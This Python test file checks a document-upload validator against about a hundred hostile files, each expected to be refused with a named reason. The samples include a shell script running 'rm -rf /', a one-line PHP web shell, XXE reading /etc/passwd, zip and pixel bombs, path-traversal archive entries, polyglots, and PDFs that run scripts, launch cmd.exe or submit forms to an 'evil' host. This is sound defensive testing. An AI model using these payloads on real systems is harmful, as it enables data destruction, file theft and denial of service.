"""Every hostile kind of upload is refused: the list, with the reason for each.

Each case is a sound file with one thing spoilt, so that it is refused for that thing alone: the
refusal's key is asserted, and the sound files are accepted in test_kinds.py.
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
from dataclasses import dataclass

import pytest

from tenir.apps.documents.checks import checked
from tenir.apps.documents.names import FileRefused
from tenir.apps.documents.opened import Bytes
from tests.apps.documents.files import (
    action,
    among,
    archive,
    docx,
    gif,
    jpeg,
    odt,
    pdf,
    png,
    webp,
)


@dataclass(frozen=True)
class Hostile:
    """One hostile file: why it is refused, its name and content, and what it is sent as."""

    reason: str
    key: str
    name: str
    content: bytes
    claimed: str = ""


def locked() -> bytes:
    """An archive whose entry says that it is encrypted."""
    made = bytearray(archive({"a.txt": b"secret"}))
    made[6] |= 1
    made[made.index(b"PK\1\2") + 8] |= 1
    return bytes(made)


def linked() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as written:
        entry = zipfile.ZipInfo("passwords.txt")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        written.writestr(entry, "/etc/passwd")
    return made.getvalue()


def overlapping() -> bytes:
    """Two entries of the index that share one body, as the densest bombs do."""
    made = bytearray(archive({"a.txt": bytes(50_000), "b.txt": bytes(50_000)}, stored=True))
    second = made.rindex(b"PK\1\2")
    made[second + 42 : second + 46] = struct.pack("<I", 100)
    return bytes(made)


def understated() -> bytes:
    """An archive that announces fewer bytes than it unfolds."""
    made = bytearray(archive({"a.txt": b"a" * 9_000}))
    for mark, place in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        at = made.index(mark) + place
        made[at : at + 4] = struct.pack("<I", 10)
    return bytes(made)


def hidden_script() -> bytes:
    """A PDF whose script lies in an object that its index leaves out."""
    return pdf().replace(b"%%EOF", b"9 0 obj << /S /J#61vaScript /JS (x) >> endobj\n%%EOF")


SCRIPT = action("/JavaScript", JS="app.alert(1)")
EXTERNAL = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'
EXTERNAL_ENTITY = b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

FILES = [
    Hostile("nothing in it: proves nothing", "empty", "a.txt", b""),
    # --- programs and pages
    Hostile("a Windows program", "kind_not_kept", "setup.com", b"MZ\x90\0"),
    Hostile("a Linux program under a document's name", "kind_differs", "a.pdf", b"\x7fELF\2\1\1"),
    Hostile("a Windows program under an image's name", "kind_differs", "a.png", b"MZ\x90\0"),
    Hostile("a program under a text's name", "text_control", "a.txt", b"\x7fELF\2\1\1\0"),
    Hostile("a script that a shell runs", "script", "a.txt", b"#!/bin/sh\nrm -rf /\n"),
    Hostile("the same behind a byte order mark", "script", "a.txt", b"\xef\xbb\xbf#!/bin/sh\n"),
    Hostile("a script of browsers and Windows", "kind_not_kept", "a.js", b"alert(1)"),
    Hostile("a page, which runs its scripts as ours", "kind_not_kept", "a.html", b"<html></html>"),
    Hostile("a page under a text's name", "page", "a.txt", b" \n<!DOCTYPE html><script>"),
    Hostile("a page that begins by a comment", "page", "a.md", b"<!-- --><script>alert(1)"),
    Hostile("a program of web servers", "page", "a.txt", b"<?php system($_GET[0]);"),
    Hostile("an SVG image: a page that runs scripts", "kind_not_kept", "a.svg", SVG),
    Hostile("an SVG under the name of XML", "page", "a.xml", SVG),
    Hostile(
        "an SVG behind an XML declaration", "xml_active", "a.xml", b"<?xml version='1.0'?>" + SVG
    ),
    Hostile(
        "XHTML inside XML",
        "xml_active",
        "a.xml",
        b"<a1><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script></a1>",
    ),
    Hostile(
        "XML that a style sheet turns into a page",
        "xml_active",
        "a.xml",
        b"<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><z/>",
    ),
    # --- texts that are none
    Hostile("bytes hidden in a text", "text_control", "a.csv", b"a,b\0c\n"),
    Hostile(
        "a text that reads otherwise elsewhere", "text_encoding", "a.txt", "é".encode("cp1252")
    ),
    Hostile(
        "UTF-16, where filters look for UTF-8", "text_control", "a.txt", "<html>".encode("utf-16")
    ),
    Hostile("UTF-7 is text; broken UTF-8 is not", "text_encoding", "a.txt", b"ok \xc0\xaf"),
    Hostile("JSON cut short", "broken", "a.json", b'{"a": '),
    Hostile("JSON nested to exhaust its reader", "broken", "a.json", b"[" * 100_000),
    Hostile("JSON of values without end", "values", "a.json", b"[" + b"[]," * 500_001 + b"[]]"),
    Hostile("XML without end", "values", "a.xml", b"<r>" + b"<v/>" * 1_000_001 + b"</r>"),
    # --- XML
    Hostile("a billion laughs: entities that unfold", "xml_entities", "a.xml", LAUGHS),
    Hostile("an entity that reads our files", "xml_entities", "a.xml", EXTERNAL_ENTITY),
    Hostile("XML cut short", "broken", "a.xml", b"<z><y></z>"),
    # --- lies
    Hostile("an image announced as a document", "kind_differs", "a.pdf", png()),
    Hostile("a kind of image under another's name", "kind_differs", "a.png", gif()),
    Hostile(
        "sound, not an image, under WebP's name", "kind_differs", "a.webp", b"RIFF0000WAVEfmt "
    ),
    Hostile("sent as a page", "claim_differs", "a.png", png(), "text/html"),
    Hostile("sent as a script", "claim_differs", "a.txt", b"text", "application/javascript; x=1"),
    Hostile("no ending: nobody knows what opens it", "kind_not_kept", "README", b"text"),
    # --- two files in one
    Hostile("a PDF that is also an archive", "two_kinds", "a.pdf", pdf() + archive({"a": b"x"})),
    Hostile(
        "a GIFAR: an image that is also an archive",
        "two_kinds",
        "a.gif",
        gif() + archive({"a": b"x"}),
    ),
    Hostile(
        "a photograph that is also an archive", "two_kinds", "a.jpg", jpeg() + archive({"a": b"x"})
    ),
    Hostile(
        "a PDF that is also a page", "two_kinds", "a.pdf", b"%PDF-1.7\n<script>x</script>\n" + pdf()
    ),
    Hostile(
        "an image that is also a page",
        "two_kinds",
        "a.gif",
        gif()[:-1] + b"<script>alert(1)</script>;",
    ),
    Hostile("an image that is also a PDF", "two_kinds", "a.jpg", jpeg() + b"%PDF-1.7"),
    Hostile(
        "an archive with a PDF before its end", "two_kinds", "a.zip", archive({"%PDF-1.txt": b"x"})
    ),
    Hostile(
        "an archive with another before it",
        "two_kinds",
        "a.zip",
        archive({"a.txt": b"x"}) + archive({"b.txt": b"y"}),
    ),
    Hostile("a PNG with something after its end", "trailing", "a.png", png() + b"#!/bin/sh"),
    Hostile(
        "an archive with something after its end",
        "trailing",
        "a.zip",
        archive({"a.txt": b"x"}) + b"more",
    ),
    # --- images
    Hostile("a bomb of pixels (PNG)", "image_large", "a.png", png(60_000, 60_000)),
    Hostile("a bomb of pixels (JPEG)", "image_large", "a.jpg", jpeg(65_000, 65_000)),
    Hostile("a bomb of pixels (GIF)", "image_large", "a.gif", gif(65_535, 65_535)),
    Hostile("a bomb of pixels (WebP)", "image_large", "a.webp", webp(size=b"\xff\xff\xff" * 2)),
    Hostile("an image of no size", "broken", "a.gif", gif(0, 5)),
    Hostile("an image without its header", "broken", "a.png", png().replace(b"IHDR", b"XXXX")),
    Hostile("a photograph that ends before its frame", "broken", "a.jpg", b"\xff\xd8\xff\xfe\0"),
    Hostile("a photograph without a frame", "broken", "a.jpg", b"\xff\xd8\xff\xe0\0\4ab" + b"ab"),
    Hostile("a WebP image of no known form", "broken", "a.webp", webp(b"VP9!")),
    # --- archives
    Hostile(
        "a zip bomb: a hundred times its size",
        "archive_bomb",
        "a.zip",
        archive({"a.txt": b" " * 5_000_000}),
    ),
    Hostile("a zip bomb whose entries share bytes", "archive_bomb", "a.zip", overlapping()),
    Hostile("an archive that understates what it unfolds", "broken", "a.zip", understated()),
    Hostile(
        "a heap of entries",
        "archive_entries",
        "a.zip",
        archive({f"{n}.txt": b"" for n in range(2_001)}),
    ),
    Hostile(
        "an archive in an archive",
        "archive_nested",
        "a.zip",
        archive({"b.zip": archive({"c.txt": b"x"})}),
    ),
    Hostile("an entry that climbs out", "archive_climbs", "a.zip", archive({"../../a.txt": b"x"})),
    Hostile("an entry at the root", "archive_climbs", "a.zip", archive({"/etc/a.txt": b"x"})),
    Hostile("an entry on a drive", "archive_climbs", "a.zip", archive({"C:a.txt": b"x"})),
    Hostile(
        "an entry of Windows that climbs out",
        "archive_climbs",
        "a.zip",
        archive({"..\\a.txt": b"x"}),
    ),
    Hostile("a symbolic link to our files", "archive_climbs", "a.zip", linked()),
    Hostile("an archive that no scan can read", "archive_locked", "a.zip", locked()),
    Hostile("a program in an archive", "name_runs", "a.zip", archive({"setup.exe": b"MZ"})),
    Hostile("a page in an archive", "kind_not_kept", "a.zip", archive({"b/a.html": b"<html>"})),
    Hostile("a lying entry", "kind_differs", "a.zip", archive({"a.png": b"MZ"})),
    Hostile(
        "a folder with a deceiving name", "name_hidden", "a.zip", archive({"a\u202e/b.txt": b"x"})
    ),
    Hostile(
        "the same entry twice, with other capitals",
        "broken",
        "a.zip",
        archive({"a.txt": b"x", "A.TXT": b"y"}),
    ),
    Hostile("an archive cut short", "broken", "a.zip", archive({"a.txt": b"x"})[:-30]),
    Hostile(
        "an entry that was altered",
        "broken",
        "a.zip",
        archive({"a.txt": b"abc"}, stored=True).replace(b"abc", b"abd"),
    ),
    # --- office files
    Hostile("macros", "office_macros", "a.docx", docx({"word/vbaProject.bin": b"x"})),
    Hostile(
        "controls that run (ActiveX)",
        "office_macros",
        "a.docx",
        docx({"word/activeX/activeX1.bin": b"x"}),
    ),
    Hostile(
        "macros of OpenDocument", "office_macros", "a.odt", odt({"Basic/Standard/a.xml": b"<a/>"})
    ),
    Hostile(
        "a document of macros under the name of one without",
        "broken",
        "a.docx",
        docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    Hostile("a sheet under the name of a letter", "broken", "a.ods", odt()),
    Hostile("an archive under an office name", "broken", "a.docx", archive({"a.txt": b"x"})),
    Hostile(
        "an embedded object that runs",
        "office_embeds",
        "a.docx",
        docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    ),
    Hostile(
        "a template fetched from the network",
        "office_fetches",
        "a.docx",
        docx({"word/_rels/settings.xml.rels": EXTERNAL}),
    ),
    Hostile("entities in a part", "xml_entities", "a.docx", docx({"word/styles.xml": LAUGHS})),
    Hostile(
        "locked (Microsoft): an OLE container",
        "kind_differs",
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    ),
    Hostile(
        "locked (OpenDocument)",
        "archive_locked",
        "a.odt",
        odt({"META-INF/manifest.xml": b"<encryption-data/>"}),
    ),
    Hostile(
        "an office file that is a bomb",
        "archive_bomb",
        "a.docx",
        docx({"word/a.xml": b" " * 5_000_000}),
    ),
    Hostile(
        "macros in a sheet in a letter",
        "office_macros",
        "a.docx",
        docx({"word/embeddings/b.docx": docx({"word/vbaProject.bin": b"x"})}),
    ),
    # --- PDF
    Hostile(
        "a script run when it is opened", "pdf_active", "a.pdf", pdf(root={"/OpenAction": SCRIPT})
    ),
    Hostile("a script deep inside", "pdf_active", "a.pdf", pdf(root={"/AA": among(SCRIPT)})),
    Hostile("a script in what the index leaves out", "pdf_active", "a.pdf", hidden_script()),
    Hostile(
        "a program launched",
        "pdf_active",
        "a.pdf",
        pdf(root={"/OpenAction": action("/Launch", F="cmd.exe")}),
    ),
    Hostile(
        "a form sent away",
        "pdf_active",
        "a.pdf",
        pdf(root={"/OpenAction": action("/SubmitForm", F="http://evil")}),
    ),
    Hostile(
        "a form with its own language (XFA)",
        "pdf_active",
        "a.pdf",
        pdf(root={"/AcroForm": among(action("/X", XFA="x"))}),
    ),
    Hostile("a program attached", "name_runs", "a.pdf", pdf(attached={"setup.exe": b"MZ"})),
    Hostile("a page attached", "kind_not_kept", "a.pdf", pdf(attached={"a.html": b"text"})),
    Hostile("a locked PDF, which no scan can read", "archive_locked", "a.pdf", pdf(password="x")),
    Hostile("a PDF without a page", "broken", "a.pdf", pdf(pages=0)),
    Hostile("a PDF cut short", "broken", "a.pdf", b"%PDF-1.7\n1 0 obj <<"),
    Hostile(
        "an attachment that says nothing of itself",
        "broken",
        "a.pdf",
        pdf(root={"/X": action("/X", F="a.txt", EF="none")}),
    ),
]


@pytest.mark.parametrize("hostile", FILES, ids=lambda hostile: hostile.reason)
def test_a_hostile_file_is_refused(hostile: Hostile) -> None:
    with pytest.raises(FileRefused) as refused:
        checked(hostile.name, Bytes(hostile.content), claimed=hostile.claimed)
    assert refused.value.key == f"documents.{hostile.key}"
